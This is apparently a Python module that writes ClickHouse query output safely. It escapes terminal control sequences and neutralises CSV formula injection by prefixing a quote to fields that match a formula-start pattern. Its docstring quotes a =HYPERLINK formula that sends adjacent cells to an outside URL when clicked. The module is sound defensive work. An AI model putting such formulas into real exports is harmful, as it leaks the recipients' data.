"""Where an answer's bytes go: a terminal that they must not drive, a spreadsheet that must not compute them."""

import codecs
import re
from collections.abc import Callable
from typing import IO, Protocol

# What spreadsheets take for the beginning of a formula: also as full-width characters, and behind what they trim.
_FORMULA = re.compile(rb"^(?:[=+\-@\t\r\n]|\xef\xbc[\x9d\x8b\x8d\xa0])")
# A whole quoted field and what shows that it has ended. ClickHouse quotes all text and nothing else, and doubles quotes
# in it; so whoever begins outside of a field is always outside between two of these.
_QUOTED = rb'"([^"]*(?:""[^"]*)*)"'
_FIELD = re.compile(_QUOTED + rb'(?=[^"])')
_LAST_FIELD = re.compile(_QUOTED + rb"\Z")


class Sink(Protocol):
    """Takes an answer's bytes."""

    def write(self, data: bytes, /) -> object:
        """All of them, or a part."""


class Terminal:
    """A sink for people's eyes: `escape` takes what could drive a terminal out of the text."""

    def __init__(self, out: IO[bytes], escape: Callable[[str], str]) -> None:
        self._out, self._escape = out, escape
        self._decoder = codecs.getincrementaldecoder("utf-8")("backslashreplace")

    def write(self, data: bytes) -> None:
        """Bytes that are not UTF-8 are escaped, too."""
        self._out.write(self._escape(self._decoder.decode(data)).encode())


class Defused:
    """A sink for ClickHouse's CSV on its way to a spreadsheet: text that would be a formula there has a ' before it.

    Signatures and names are anybody's: `=HYPERLINK("http://…?"&A1)` would send the cells beside it away on a click.
    Numbers stay as they are. `close` writes what is held back: a field whose end has not come.
    """

    def __init__(self, out: Sink) -> None:
        self._out, self._held = out, b""

    def write(self, data: bytes) -> None:
        """A part of the answer, cut anywhere."""
        data = self._held + data
        done: list[bytes] = []
        at, begin = 0, data.find(b'"')
        while begin >= 0 and (field := _FIELD.match(data, begin)):
            done += data[at:begin], _defused(field)
            at, begin = field.end(), data.find(b'"', field.end())
        end = begin if begin >= 0 else len(data)
        self._held = data[end:]
        self._out.write(b"".join([*done, data[at:end]]))

    def close(self) -> None:
        """The end of the answer."""
        self._out.write(_LAST_FIELD.sub(_defused, self._held))
        self._held = b""


def _defused(field: re.Match[bytes]) -> bytes:
    return b"\"'" + field[0][1:] if _FORMULA.match(field[1]) else field[0]
